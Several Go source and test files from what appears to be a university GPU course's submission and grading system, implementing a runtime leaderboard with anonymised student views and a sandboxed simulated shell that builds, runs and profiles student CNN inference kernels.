// Recompute rebuilds rank order after reruns change timings (paper §VII
// grading step 2: "recomputing the ranking"). It returns the instructor
// view after sorting; since ranking is derived at read time from
// runtime_s, this is a verification read that also detects ties.
func (l *Leaderboard) Recompute() ([]Entry, error) {
	entries, err := l.View("")
	if err != nil {
		return nil, err
	}
	// Stable tie ordering is by team name (load sorts runtime_s, team).
	sorted := sort.SliceIsSorted(entries, func(i, j int) bool {
		if entries[i].Runtime != entries[j].Runtime {
			return entries[i].Runtime < entries[j].Runtime
		}
		return entries[i].Team < entries[j].Team
	})
	if !sorted {
		return nil, fmt.Errorf("ranking: leaderboard order violated its invariant")
	}
	return entries, nil
}
