package ranking

import (
	"errors"
	"fmt"
	"strings"
	"testing"
	"time"

	"rai/internal/docstore"
)

func seed(t *testing.T, rows []docstore.M) *Leaderboard {
	t.Helper()
	db := docstore.New()
	for _, r := range rows {
		if _, err := db.Insert(Collection, r); err != nil {
			t.Fatal(err)
		}
	}
	return &Leaderboard{DB: db}
}

func classOf4(t *testing.T) *Leaderboard {
	return seed(t, []docstore.M{
		{"team": "cobra", "runtime_s": 0.61, "accuracy": 0.97},
		{"team": "adder", "runtime_s": 0.44, "accuracy": 0.99},
		{"team": "viper", "runtime_s": 121.0, "accuracy": 0.95},
		{"team": "mamba", "runtime_s": 0.92, "accuracy": 0.96},
	})
}

func TestInstructorViewSortedRealNames(t *testing.T) {
	lb := classOf4(t)
	entries, err := lb.View("")
	if err != nil {
		t.Fatal(err)
	}
	wantOrder := []string{"adder", "cobra", "mamba", "viper"}
	for i, w := range wantOrder {
		if entries[i].Team != w || entries[i].Rank != i+1 {
			t.Fatalf("entries = %+v", entries)
		}
	}
}

func TestStudentViewAnonymized(t *testing.T) {
	lb := classOf4(t)
	entries, err := lb.View("mamba")
	if err != nil {
		t.Fatal(err)
	}
	if entries[2].Team != "mamba" || !entries[2].Mine {
		t.Fatalf("own team not visible: %+v", entries[2])
	}
	for i, e := range entries {
		if i == 2 {
			continue
		}
		if e.Mine || !strings.HasPrefix(e.Team, "Team #") {
			t.Fatalf("other team not anonymized: %+v", e)
		}
	}
}

func TestRankOf(t *testing.T) {
	lb := classOf4(t)
	rank, total, err := lb.RankOf("cobra")
	if err != nil || rank != 2 || total != 4 {
		t.Fatalf("RankOf = %d/%d, %v", rank, total, err)
	}
	if _, _, err := lb.RankOf("ghost"); !errors.Is(err, ErrNoSubmission) {
		t.Fatalf("missing team: %v", err)
	}
}

func TestMinAccuracyFilter(t *testing.T) {
	lb := classOf4(t)
	lb.MinAccuracy = 0.96
	entries, err := lb.View("")
	if err != nil {
		t.Fatal(err)
	}
	if len(entries) != 3 {
		t.Fatalf("filtered entries = %+v (viper at 0.95 must be excluded)", entries)
	}
	for _, e := range entries {
		if e.Team == "viper" {
			t.Error("below-target team still ranked")
		}
	}
}

func TestHistogramPaperBins(t *testing.T) {
	// Reconstruct the Figure 2 shape: 5 teams in [0.4,0.5), most under
	// 1s, one 2-minute straggler.
	var rows []docstore.M
	for i := 0; i < 5; i++ {
		rows = append(rows, docstore.M{"team": fmt.Sprintf("t4%d", i), "runtime_s": 0.41 + 0.015*float64(i), "accuracy": 1.0})
	}
	rows = append(rows,
		docstore.M{"team": "t-a", "runtime_s": 0.55, "accuracy": 1.0},
		docstore.M{"team": "t-b", "runtime_s": 0.78, "accuracy": 1.0},
		docstore.M{"team": "t-slow", "runtime_s": 120.0, "accuracy": 1.0},
	)
	lb := seed(t, rows)
	bins, err := lb.Histogram(30, 0.1)
	if err != nil {
		t.Fatal(err)
	}
	var bin04 *HistogramBin
	for i := range bins {
		if bins[i].Lo == 0.4 {
			bin04 = &bins[i]
		}
	}
	if bin04 == nil || bin04.Count != 5 {
		t.Fatalf("bin [0.4,0.5) = %+v, want 5 teams (Figure 2's example)", bin04)
	}
	// Total count preserved.
	total := 0
	for _, b := range bins {
		total += b.Count
	}
	if total != len(rows) {
		t.Errorf("histogram total = %d, want %d", total, len(rows))
	}
	text := FormatHistogram(bins)
	if !strings.Contains(text, "#####") {
		t.Errorf("ASCII bars missing:\n%s", text)
	}
}

func TestHistogramTopNOnly(t *testing.T) {
	var rows []docstore.M
	for i := 0; i < 58; i++ {
		rows = append(rows, docstore.M{"team": fmt.Sprintf("team%02d", i), "runtime_s": 0.4 + float64(i)*0.1, "accuracy": 1.0})
	}
	lb := seed(t, rows)
	bins, err := lb.Histogram(30, 0.1)
	if err != nil {
		t.Fatal(err)
	}
	total := 0
	for _, b := range bins {
		total += b.Count
	}
	if total != 30 {
		t.Errorf("top-30 histogram counted %d teams", total)
	}
}

func TestHistogramEmpty(t *testing.T) {
	lb := seed(t, nil)
	bins, err := lb.Histogram(30, 0.1)
	if err != nil || bins != nil {
		t.Fatalf("empty = %v, %v", bins, err)
	}
}

func TestFormatRuntime(t *testing.T) {
	entries := []Entry{
		{Rank: 1, Team: "fast", Runtime: 440 * time.Millisecond, Accuracy: 1},
		{Rank: 2, Team: "slow", Runtime: 2 * time.Minute, Accuracy: 1, Mine: true},
	}
	text := Format(entries)
	if !strings.Contains(text, "0.440s") {
		t.Errorf("sub-minute formatting:\n%s", text)
	}
	if !strings.Contains(text, "2m00.0s") {
		t.Errorf("minute formatting:\n%s", text)
	}
	if !strings.Contains(text, "slow (you)") {
		t.Errorf("own-team marker:\n%s", text)
	}
}

func TestRecomputeInvariant(t *testing.T) {
	lb := classOf4(t)
	if _, err := lb.Recompute(); err != nil {
		t.Fatal(err)
	}
	// After a rerun updates a timing (overwrite semantics), recompute
	// reflects the new order.
	lb.DB.Update(Collection, docstore.M{"team": "viper"}, docstore.M{"$set": docstore.M{"runtime_s": 0.30}})
	entries, err := lb.Recompute()
	if err != nil {
		t.Fatal(err)
	}
	if entries[0].Team != "viper" {
		t.Fatalf("recomputed head = %+v", entries[0])
	}
}
