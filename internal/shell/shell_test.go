package shell

import (
	"bytes"
	"path"
	"reflect"
	"strings"
	"testing"
	"time"

	"rai/internal/cnn"
	"rai/internal/project"
	"rai/internal/vfs"
)

// containerFS builds the filesystem a worker would assemble: the student
// project mounted at /src, datasets at /data, empty /build.
func containerFS(t *testing.T, spec project.Spec) *vfs.FS {
	t.Helper()
	fs := vfs.New()
	if err := project.WriteTo(fs, "/src", spec); err != nil {
		t.Fatal(err)
	}
	fs.MkdirAll("/build")
	nw := cnn.NewNetwork(408)
	model, err := nw.SaveModel()
	if err != nil {
		t.Fatal(err)
	}
	fs.WriteFile("/data/model.hdf5", model)
	small, err := cnn.SynthesizeDataset(nw, 10, 10)
	if err != nil {
		t.Fatal(err)
	}
	blob, _ := small.Encode()
	fs.WriteFile("/data/test10.hdf5", blob)
	full, err := cnn.SynthesizeDataset(nw, 11, 20)
	if err != nil {
		t.Fatal(err)
	}
	blob, _ = full.Encode()
	fs.WriteFile("/data/testfull.hdf5", blob)
	return fs
}

func newShell(t *testing.T, fs *vfs.FS) (*Shell, *bytes.Buffer, *bytes.Buffer) {
	t.Helper()
	var out, errb bytes.Buffer
	return New(fs, "/build", &out, &errb, nil), &out, &errb
}

func TestTokenize(t *testing.T) {
	cases := []struct {
		in   string
		want []string
	}{
		{`echo "Building project"`, []string{"echo", "Building project"}},
		{`cmake /src`, []string{"cmake", "/src"}},
		{`a 'b c' d\ e`, []string{"a", "b c", "d e"}},
		{`  spaced   out  `, []string{"spaced", "out"}},
		{``, nil},
		{`"mixed 'quotes'"`, []string{"mixed 'quotes'"}},
	}
	for _, tc := range cases {
		got, err := Tokenize(tc.in)
		if err != nil {
			t.Errorf("Tokenize(%q): %v", tc.in, err)
			continue
		}
		if !reflect.DeepEqual(got, tc.want) {
			t.Errorf("Tokenize(%q) = %#v, want %#v", tc.in, got, tc.want)
		}
	}
	for _, bad := range []string{`unterminated "`, `unterminated '`, `trailing \`, `a | b`, `a > f`, `a; b`} {
		if _, err := Tokenize(bad); err == nil {
			t.Errorf("Tokenize(%q) succeeded", bad)
		}
	}
}

func TestEchoAndUnknownCommand(t *testing.T) {
	sh, out, errb := newShell(t, vfs.New())
	res, err := sh.Run(`echo "Building project"`)
	if err != nil || res.ExitCode != 0 {
		t.Fatalf("echo: %v %+v", err, res)
	}
	if out.String() != "Building project\n" {
		t.Fatalf("stdout = %q", out.String())
	}
	res, err = sh.Run("no-such-tool")
	if err == nil || res.ExitCode != 127 {
		t.Fatalf("unknown command: %v %+v", err, res)
	}
	if !strings.Contains(errb.String(), "command not found") {
		t.Fatalf("stderr = %q", errb.String())
	}
}

func TestListing1PipelineEndToEnd(t *testing.T) {
	fs := containerFS(t, project.Spec{Impl: cnn.ImplIm2col, Team: "t1"})
	sh, out, errb := newShell(t, fs)
	cmds := []string{
		`echo "Building project"`,
		`cmake /src`,
		`make`,
		`./ece408 /data/test10.hdf5 /data/model.hdf5`,
		`nvprof --export-profile timeline.nvprof ./ece408 /data/test10.hdf5 /data/model.hdf5`,
	}
	var total time.Duration
	var lastInfer Result
	for _, c := range cmds {
		res, err := sh.Run(c)
		if err != nil {
			t.Fatalf("%q failed: %v\nstderr: %s", c, err, errb.String())
		}
		total += res.Wall
		if res.RanInference {
			lastInfer = res
		}
	}
	if !fs.Exists("/build/ece408") {
		t.Error("make did not produce the target binary")
	}
	if !fs.Exists("/build/timeline.nvprof") {
		t.Error("nvprof did not export the timeline")
	}
	if lastInfer.Accuracy != 1.0 {
		t.Errorf("accuracy = %v, want 1.0 for a correct kernel", lastInfer.Accuracy)
	}
	if !strings.Contains(out.String(), "Correctness: 1.0000") {
		t.Errorf("stdout missing correctness line:\n%s", out.String())
	}
	if total <= 0 {
		t.Error("pipeline consumed no simulated time")
	}
}

func TestMakeRequiresCmake(t *testing.T) {
	fs := containerFS(t, project.Spec{Impl: cnn.ImplTiled})
	sh, _, errb := newShell(t, fs)
	res, err := sh.Run("make")
	if err == nil || res.ExitCode != 2 {
		t.Fatalf("make without Makefile: %v %+v", err, res)
	}
	if !strings.Contains(errb.String(), "No targets") {
		t.Errorf("stderr = %q", errb.String())
	}
}

func TestCmakeRequiresCMakeLists(t *testing.T) {
	fs := vfs.New()
	fs.MkdirAll("/src")
	fs.MkdirAll("/build")
	sh, _, errb := newShell(t, fs)
	if _, err := sh.Run("cmake /src"); err == nil {
		t.Fatal("cmake succeeded without CMakeLists.txt")
	}
	if !strings.Contains(errb.String(), "CMakeLists.txt") {
		t.Errorf("stderr = %q", errb.String())
	}
	if _, err := sh.Run("cmake /nonexistent"); err == nil {
		t.Fatal("cmake succeeded on missing dir")
	}
}

func TestCompileErrorFailsBuild(t *testing.T) {
	fs := containerFS(t, project.Spec{Impl: cnn.ImplTiled, Bug: "compile"})
	sh, _, errb := newShell(t, fs)
	if _, err := sh.Run("cmake /src"); err != nil {
		t.Fatal(err)
	}
	res, err := sh.Run("make")
	if err == nil || res.ExitCode != 2 {
		t.Fatalf("make with compile error: %v %+v", err, res)
	}
	if !strings.Contains(errb.String(), "Error 1") {
		t.Errorf("stderr = %q", errb.String())
	}
	if fs.Exists("/build/ece408") {
		t.Error("binary produced despite compile error")
	}
}

func TestCrashBugExitsNonzero(t *testing.T) {
	fs := containerFS(t, project.Spec{Impl: cnn.ImplIm2col, Bug: "crash"})
	sh, _, errb := newShell(t, fs)
	sh.Run("cmake /src")
	sh.Run("make")
	res, err := sh.Run("./ece408 /data/test10.hdf5 /data/model.hdf5")
	if err == nil || res.ExitCode != 1 {
		t.Fatalf("crash bug: %v %+v", err, res)
	}
	if !strings.Contains(errb.String(), "CUDA error") {
		t.Errorf("stderr = %q", errb.String())
	}
}

func TestHangBugConsumesLifetime(t *testing.T) {
	fs := containerFS(t, project.Spec{Impl: cnn.ImplIm2col, Bug: "hang"})
	sh, _, _ := newShell(t, fs)
	sh.Run("cmake /src")
	sh.Run("make")
	res, _ := sh.Run("./ece408 /data/test10.hdf5 /data/model.hdf5")
	if res.Wall < 24*time.Hour {
		t.Fatalf("hang consumed only %v; sandbox lifetime limit would never trigger", res.Wall)
	}
}

func TestAccuracyBugDegradesCorrectness(t *testing.T) {
	fs := containerFS(t, project.Spec{Impl: cnn.ImplIm2col, Bug: "accuracy"})
	sh, out, _ := newShell(t, fs)
	sh.Run("cmake /src")
	sh.Run("make")
	res, err := sh.Run("./ece408 /data/test10.hdf5 /data/model.hdf5")
	if err != nil {
		t.Fatal(err)
	}
	if res.Accuracy >= 0.9 {
		t.Errorf("buggy kernel accuracy = %v, want visibly degraded", res.Accuracy)
	}
	if !strings.Contains(out.String(), "Correctness: 0.") {
		t.Errorf("stdout = %q", out.String())
	}
}

func TestModeledRuntimeMatchesPaperScale(t *testing.T) {
	// Paper: serial baseline ~30 min on the full dataset; winning
	// optimized kernels ~0.4 s (Figure 2's mode).
	fs := containerFS(t, project.Spec{Impl: cnn.ImplNaiveSerial, Tuning: 1})
	sh, _, _ := newShell(t, fs)
	sh.Run("cmake /src")
	sh.Run("make")
	res, err := sh.Run("./ece408 /data/testfull.hdf5 /data/model.hdf5 10000")
	if err != nil {
		t.Fatal(err)
	}
	if res.InternalTimer < 25*time.Minute || res.InternalTimer > 35*time.Minute {
		t.Errorf("serial full-dataset time = %v, want ~30 min", res.InternalTimer)
	}

	fs2 := containerFS(t, project.Spec{Impl: cnn.ImplParallel, Tuning: 1})
	sh2, _, _ := newShell(t, fs2)
	sh2.Run("cmake /src")
	sh2.Run("make")
	res2, err := sh2.Run("./ece408 /data/testfull.hdf5 /data/model.hdf5 10000")
	if err != nil {
		t.Fatal(err)
	}
	if res2.InternalTimer < 300*time.Millisecond || res2.InternalTimer > 600*time.Millisecond {
		t.Errorf("optimized full-dataset time = %v, want ~0.4 s", res2.InternalTimer)
	}
}

func TestTuningScalesRuntime(t *testing.T) {
	run := func(tuning float64) time.Duration {
		fs := containerFS(t, project.Spec{Impl: cnn.ImplTiled, Tuning: tuning})
		sh, _, _ := newShell(t, fs)
		sh.Run("cmake /src")
		sh.Run("make")
		res, err := sh.Run("./ece408 /data/test10.hdf5 /data/model.hdf5 1000")
		if err != nil {
			t.Fatal(err)
		}
		return res.InternalTimer
	}
	base, doubled := run(1.0), run(2.0)
	ratio := float64(doubled) / float64(base)
	if ratio < 1.9 || ratio > 2.1 {
		t.Errorf("tuning 2.0 / 1.0 runtime ratio = %v, want ~2", ratio)
	}
}

func TestUsrBinTimeReport(t *testing.T) {
	// Listing 2 line 10: /usr/bin/time ./ece408 ... — the report goes to
	// instructors, the internal timer to students.
	fs := containerFS(t, project.Spec{Impl: cnn.ImplIm2col})
	sh, _, _ := newShell(t, fs)
	sh.Run("cmake /src")
	sh.Run("make")
	res, err := sh.Run("/usr/bin/time ./ece408 /data/testfull.hdf5 /data/model.hdf5 10000")
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(res.TimeReport, "real ") || !strings.Contains(res.TimeReport, "user ") {
		t.Errorf("TimeReport = %q", res.TimeReport)
	}
	if !res.RanInference || res.InternalTimer == 0 {
		t.Errorf("inference fields not propagated: %+v", res)
	}
}

func TestCpRecursiveForSubmission(t *testing.T) {
	// Listing 2 line 7: cp -r /src /build/submission_code.
	fs := containerFS(t, project.Spec{Impl: cnn.ImplIm2col, Team: "t9"})
	sh, _, _ := newShell(t, fs)
	if _, err := sh.Run("cp -r /src /build/submission_code"); err != nil {
		t.Fatal(err)
	}
	data, err := fs.ReadFile("/build/submission_code/ece408_src/new-forward.cuh")
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(data), "team t9") {
		t.Error("copied source lost content")
	}
	// Non-recursive copy of a directory fails like real cp.
	if _, err := sh.Run("cp /src /build/nope"); err == nil {
		t.Error("cp dir without -r succeeded")
	}
}

func TestFilesystemUtilities(t *testing.T) {
	fs := vfs.New()
	fs.WriteFile("/build/hello.txt", []byte("hi"))
	sh, out, _ := newShell(t, fs)
	if _, err := sh.Run("mkdir -p /build/a/b"); err != nil {
		t.Fatal(err)
	}
	if !fs.Exists("/build/a/b") {
		t.Error("mkdir -p did not create the tree")
	}
	if _, err := sh.Run("cat hello.txt"); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(out.String(), "hi") {
		t.Errorf("cat output = %q", out.String())
	}
	out.Reset()
	if _, err := sh.Run("ls /build"); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(out.String(), "a/") || !strings.Contains(out.String(), "hello.txt") {
		t.Errorf("ls output = %q", out.String())
	}
	out.Reset()
	sh.Run("pwd")
	if strings.TrimSpace(out.String()) != "/build" {
		t.Errorf("pwd = %q", out.String())
	}
}

func TestSleepAccumulatesWall(t *testing.T) {
	sh, _, _ := newShell(t, vfs.New())
	res, err := sh.Run("sleep 2.5")
	if err != nil {
		t.Fatal(err)
	}
	if res.Wall != 2500*time.Millisecond {
		t.Errorf("Wall = %v", res.Wall)
	}
	if _, err := sh.Run("sleep nope"); err == nil {
		t.Error("bad sleep accepted")
	}
}

func TestBinaryRunRejectsMissingArgs(t *testing.T) {
	fs := containerFS(t, project.Spec{Impl: cnn.ImplIm2col})
	sh, _, _ := newShell(t, fs)
	sh.Run("cmake /src")
	sh.Run("make")
	if _, err := sh.Run("./ece408"); err == nil {
		t.Error("missing args accepted")
	}
	if _, err := sh.Run("./ece408 /data/missing.hdf5 /data/model.hdf5"); err == nil {
		t.Error("missing data file accepted")
	}
	if _, err := sh.Run("./ece408 /data/test10.hdf5 /data/model.hdf5 -3"); err == nil {
		t.Error("negative count accepted")
	}
	// Running a non-binary file fails like exec would.
	fs.WriteFile("/build/script.txt", []byte("just text"))
	if res, err := sh.Run("./script.txt"); err == nil || res.ExitCode != 126 {
		t.Errorf("non-binary exec: %v %+v", err, res)
	}
}

func TestCustomCMakeTargetName(t *testing.T) {
	fs := containerFS(t, project.Spec{Impl: cnn.ImplIm2col})
	// Rewrite CMakeLists with a different target.
	fs.WriteFile("/src/CMakeLists.txt", []byte("add_executable(mynet main.cu)\n"))
	sh, _, _ := newShell(t, fs)
	sh.Run("cmake /src")
	if _, err := sh.Run("make"); err != nil {
		t.Fatal(err)
	}
	if !fs.Exists(path.Join("/build", "mynet")) {
		t.Error("custom target not produced")
	}
}

func TestProgramsListed(t *testing.T) {
	sh, _, _ := newShell(t, vfs.New())
	progs := sh.Programs()
	for _, want := range []string{"echo", "cmake", "make", "nvprof", "time", "cp"} {
		found := false
		for _, p := range progs {
			if p == want {
				found = true
			}
		}
		if !found {
			t.Errorf("program %q not registered", want)
		}
	}
}
