// Package shell implements the command interpreter that executes the
// build steps of a rai-build.yml inside a sandboxed container filesystem.
// It provides the programs the paper's Listings 1 and 2 invoke — echo,
// cmake, make, cp, nvprof, /usr/bin/time, and the course's ece408
// inference binary — over an internal/vfs filesystem, so student build
// specifications run deterministically and portably.
//
// Each command reports the simulated wall time it consumed; the sandbox
// layers that onto its clock (virtual in simulations, real in daemons).
// The ece408 program performs real CNN inference (internal/cnn) on a
// verification subset for correctness, while elapsed time for the full
// batch comes from the CostModel, calibrated to the paper's observations
// (a ~30-minute serial baseline; optimized runs mostly under a second).
package shell

import (
	"fmt"
	"io"
	"sort"
	"strings"
	"time"

	"rai/internal/vfs"
)

// Result is the outcome of one command.
type Result struct {
	ExitCode int
	// Wall is the simulated wall-clock duration the command consumed.
	Wall time.Duration
	// TimeReport carries /usr/bin/time output destined for instructors
	// only (paper §V: "the results from the time command are shown to
	// the instructors during grading").
	TimeReport string
	// InternalTimer is the student-visible measured inference time
	// reported by the ece408 binary's internal timer, when it ran.
	InternalTimer time.Duration
	// RanInference is true when the command executed the model.
	RanInference bool
	// Accuracy is the measured verification accuracy when inference ran.
	Accuracy float64
	// MemBytes is the command's peak modeled memory use; the sandbox
	// kills the container when it exceeds the configured limit (the
	// paper's 8 GB cap).
	MemBytes int64
}

// ErrExit is returned (wrapped) when a command fails; the exit code is
// in Result.ExitCode.
type ExitError struct {
	Code int
	Msg  string
}

func (e *ExitError) Error() string {
	return fmt.Sprintf("exit status %d: %s", e.Code, e.Msg)
}

// Shell interprets commands against a container filesystem.
type Shell struct {
	FS     *vfs.FS
	Cwd    string
	Stdout io.Writer
	Stderr io.Writer
	Cost   CostModel
	// Env holds variables; unused by the default programs but kept for
	// extension parity with the real client.
	Env map[string]string
	// programs maps binary names/paths to implementations.
	programs map[string]Program
}

// Program is one executable the shell can run.
type Program func(sh *Shell, argv []string, res *Result) error

// New builds a shell over fs with the default program set, starting in
// cwd (the worker sets /build, paper §V worker step 4).
func New(fs *vfs.FS, cwd string, stdout, stderr io.Writer, cost CostModel) *Shell {
	if cost == nil {
		cost = DefaultCostModel()
	}
	sh := &Shell{
		FS: fs, Cwd: cwd, Stdout: stdout, Stderr: stderr, Cost: cost,
		Env:      map[string]string{},
		programs: map[string]Program{},
	}
	registerDefaults(sh)
	return sh
}

// Register installs (or overrides) a program by name.
func (sh *Shell) Register(name string, p Program) { sh.programs[name] = p }

// Programs lists registered program names, sorted.
func (sh *Shell) Programs() []string {
	out := make([]string, 0, len(sh.programs))
	for n := range sh.programs {
		out = append(out, n)
	}
	sort.Strings(out)
	return out
}

// Run tokenizes and executes one command line.
func (sh *Shell) Run(cmdline string) (Result, error) {
	var res Result
	argv, err := Tokenize(cmdline)
	if err != nil {
		res.ExitCode = 2
		fmt.Fprintf(sh.Stderr, "sh: %v\n", err)
		return res, err
	}
	if len(argv) == 0 {
		return res, nil
	}
	return sh.exec(argv)
}

// exec dispatches an argv to its program.
func (sh *Shell) exec(argv []string) (Result, error) {
	var res Result
	prog, ok := sh.lookupProgram(argv[0])
	if !ok {
		res.ExitCode = 127
		msg := fmt.Sprintf("%s: command not found", argv[0])
		fmt.Fprintln(sh.Stderr, msg)
		return res, &ExitError{Code: 127, Msg: msg}
	}
	err := prog(sh, argv, &res)
	if err != nil {
		if ee, ok := err.(*ExitError); ok {
			res.ExitCode = ee.Code
		} else if res.ExitCode == 0 {
			res.ExitCode = 1
		}
	}
	return res, err
}

// lookupProgram resolves a command name: exact program names, absolute
// paths whose base is registered (/usr/bin/time), and ./name executables
// produced by make.
func (sh *Shell) lookupProgram(name string) (Program, bool) {
	if p, ok := sh.programs[name]; ok {
		return p, true
	}
	base := name[strings.LastIndex(name, "/")+1:]
	if strings.HasPrefix(name, "./") || strings.HasPrefix(name, "/") {
		// A compiled binary on the filesystem runs through the binary
		// loader; registered path-programs (e.g. /usr/bin/time) match by
		// base name.
		if p, ok := sh.programs[base]; ok && !strings.HasPrefix(name, "./") {
			return p, true
		}
		abs := sh.abs(name)
		if sh.FS.Exists(abs) {
			return runBinary, true
		}
		if p, ok := sh.programs[base]; ok {
			return p, true
		}
	}
	return nil, false
}

// abs resolves a path against the cwd.
func (sh *Shell) abs(p string) string {
	if strings.HasPrefix(p, "/") {
		return cleanPath(p)
	}
	return cleanPath(sh.Cwd + "/" + p)
}

func cleanPath(p string) string {
	parts := strings.Split(p, "/")
	var stack []string
	for _, part := range parts {
		switch part {
		case "", ".":
		case "..":
			if len(stack) > 0 {
				stack = stack[:len(stack)-1]
			}
		default:
			stack = append(stack, part)
		}
	}
	return "/" + strings.Join(stack, "/")
}

// Tokenize splits a command line honoring single/double quotes and
// backslash escapes (enough for build-file commands; no expansions).
func Tokenize(line string) ([]string, error) {
	var out []string
	var cur strings.Builder
	started := false
	inS, inD := false, false
	for i := 0; i < len(line); i++ {
		c := line[i]
		switch {
		case inS:
			if c == '\'' {
				inS = false
			} else {
				cur.WriteByte(c)
			}
		case inD:
			switch c {
			case '"':
				inD = false
			case '\\':
				if i+1 < len(line) {
					i++
					cur.WriteByte(line[i])
				} else {
					return nil, fmt.Errorf("trailing backslash")
				}
			default:
				cur.WriteByte(c)
			}
		case c == '\'':
			inS, started = true, true
		case c == '"':
			inD, started = true, true
		case c == '\\':
			if i+1 >= len(line) {
				return nil, fmt.Errorf("trailing backslash")
			}
			i++
			cur.WriteByte(line[i])
			started = true
		case c == ' ' || c == '\t':
			if started {
				out = append(out, cur.String())
				cur.Reset()
				started = false
			}
		case c == '|' || c == '>' || c == '<' || c == '&' || c == ';':
			return nil, fmt.Errorf("shell operator %q is not supported in build commands", c)
		default:
			cur.WriteByte(c)
			started = true
		}
	}
	if inS || inD {
		return nil, fmt.Errorf("unterminated quote")
	}
	if started {
		out = append(out, cur.String())
	}
	return out, nil
}
