package shell

import (
	"strings"
	"testing"

	"rai/internal/vfs"
)

func TestExitErrorMessage(t *testing.T) {
	e := &ExitError{Code: 2, Msg: "boom"}
	if !strings.Contains(e.Error(), "exit status 2") || !strings.Contains(e.Error(), "boom") {
		t.Errorf("Error() = %q", e.Error())
	}
}

func TestRunEmptyAndBadLines(t *testing.T) {
	sh, _, errb := newShell(t, vfs.New())
	res, err := sh.Run("")
	if err != nil || res.ExitCode != 0 {
		t.Fatalf("empty line: %v %+v", err, res)
	}
	res, err = sh.Run("   \t  ")
	if err != nil || res.ExitCode != 0 {
		t.Fatalf("whitespace line: %v %+v", err, res)
	}
	res, err = sh.Run(`unterminated "`)
	if err == nil || res.ExitCode != 2 {
		t.Fatalf("bad quoting: %v %+v", err, res)
	}
	if !strings.Contains(errb.String(), "unterminated") {
		t.Errorf("stderr = %q", errb.String())
	}
}

func TestCpErrorsAndFileCopy(t *testing.T) {
	fs := vfs.New()
	fs.WriteFile("/a.txt", []byte("content"))
	fs.MkdirAll("/dst")
	sh, _, _ := newShell(t, fs)
	// Plain file copy into an existing directory picks up the base name.
	if _, err := sh.Run("cp /a.txt /dst"); err != nil {
		t.Fatal(err)
	}
	if got, _ := fs.ReadFile("/dst/a.txt"); string(got) != "content" {
		t.Errorf("copied = %q", got)
	}
	// File copy to an explicit new name.
	if _, err := sh.Run("cp /a.txt /b.txt"); err != nil {
		t.Fatal(err)
	}
	if !fs.Exists("/b.txt") {
		t.Error("renamed copy missing")
	}
	// Usage errors.
	if _, err := sh.Run("cp onlyone"); err == nil {
		t.Error("cp with one arg accepted")
	}
	if _, err := sh.Run("cp /missing /x"); err == nil {
		t.Error("cp of missing source accepted")
	}
	// cp -r with an existing destination dir nests under basename.
	fs.WriteFile("/tree/f.txt", []byte("x"))
	fs.MkdirAll("/out")
	if _, err := sh.Run("cp -r /tree /out"); err != nil {
		t.Fatal(err)
	}
	if !fs.Exists("/out/tree/f.txt") {
		t.Error("cp -r into existing dir did not nest")
	}
}

func TestMkdirAndCatUsage(t *testing.T) {
	sh, _, _ := newShell(t, vfs.New())
	if _, err := sh.Run("mkdir"); err == nil {
		t.Error("mkdir without args accepted")
	}
	if _, err := sh.Run("cat"); err == nil {
		t.Error("cat without args accepted")
	}
	if _, err := sh.Run("ls /missing"); err == nil {
		t.Error("ls of missing dir accepted")
	}
	if _, err := sh.Run("true"); err != nil {
		t.Error("true failed")
	}
	if res, err := sh.Run("false"); err == nil || res.ExitCode != 1 {
		t.Errorf("false: %v %+v", err, res)
	}
}

func TestNvprofErrors(t *testing.T) {
	fs := vfs.New()
	fs.MkdirAll("/build")
	sh, _, _ := newShell(t, fs)
	if _, err := sh.Run("nvprof"); err == nil {
		t.Error("nvprof without command accepted")
	}
	if _, err := sh.Run("nvprof --export-profile out.nvprof no-such-cmd"); err == nil {
		t.Error("nvprof of missing command accepted")
	}
	// nvprof propagates inner failure without writing the profile.
	if fs.Exists("/build/out.nvprof") {
		t.Error("profile written despite failure")
	}
	// --export-profile=<path> form.
	if _, err := sh.Run("nvprof --export-profile=eq.nvprof echo profiled"); err != nil {
		t.Fatal(err)
	}
	if !fs.Exists("/build/eq.nvprof") {
		t.Error("= form profile missing")
	}
	// Unknown nvprof flags are ignored like the real tool's passthrough.
	if _, err := sh.Run("nvprof --print-gpu-trace echo hi"); err != nil {
		t.Errorf("extra flag: %v", err)
	}
}

func TestTimeWithoutCommand(t *testing.T) {
	sh, _, _ := newShell(t, vfs.New())
	if _, err := sh.Run("time"); err == nil {
		t.Error("time without command accepted")
	}
	// time propagates inner failure and exit code.
	res, err := sh.Run("time false")
	if err == nil || res.ExitCode != 1 {
		t.Errorf("time false: %v %+v", err, res)
	}
}

func TestBadImplPragmaFailsCompile(t *testing.T) {
	fs := vfs.New()
	fs.WriteFile("/src/CMakeLists.txt", []byte("add_executable(ece408 main.cu)\n"))
	fs.WriteFile("/src/main.cu", []byte("// rai::impl=warp-speed-11\n"))
	fs.MkdirAll("/build")
	sh, _, errb := newShell(t, fs)
	sh.Run("cmake /src")
	if _, err := sh.Run("make"); err == nil {
		t.Fatal("unknown kernel variant accepted")
	}
	if !strings.Contains(errb.String(), "unknown kernel variant") {
		t.Errorf("stderr = %q", errb.String())
	}
}

func TestMakeWithoutSources(t *testing.T) {
	fs := vfs.New()
	fs.WriteFile("/src/CMakeLists.txt", []byte("add_executable(ece408 main.cu)\n"))
	fs.MkdirAll("/build")
	sh, _, errb := newShell(t, fs)
	sh.Run("cmake /src")
	// CMakeLists alone is not a source file.
	if _, err := sh.Run("make"); err == nil {
		t.Fatal("make with no sources accepted")
	}
	if !strings.Contains(errb.String(), "no source files") {
		t.Errorf("stderr = %q", errb.String())
	}
}

func TestRelativePathResolution(t *testing.T) {
	fs := vfs.New()
	fs.WriteFile("/build/sub/x.txt", []byte("deep"))
	sh, out, _ := newShell(t, fs)
	if _, err := sh.Run("cat sub/x.txt"); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(out.String(), "deep") {
		t.Errorf("relative cat = %q", out.String())
	}
	out.Reset()
	// Dot-dot stays inside the root.
	if _, err := sh.Run("cat ../build/sub/../sub/x.txt"); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(out.String(), "deep") {
		t.Errorf("dotdot cat = %q", out.String())
	}
}
