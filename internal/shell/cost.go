package shell

import (
	"time"

	"rai/internal/cnn"
)

// CostModel supplies the simulated wall time of container operations.
// The default is calibrated against the paper: the provided serial CPU
// baseline "took around 30 minutes to complete using the full dataset"
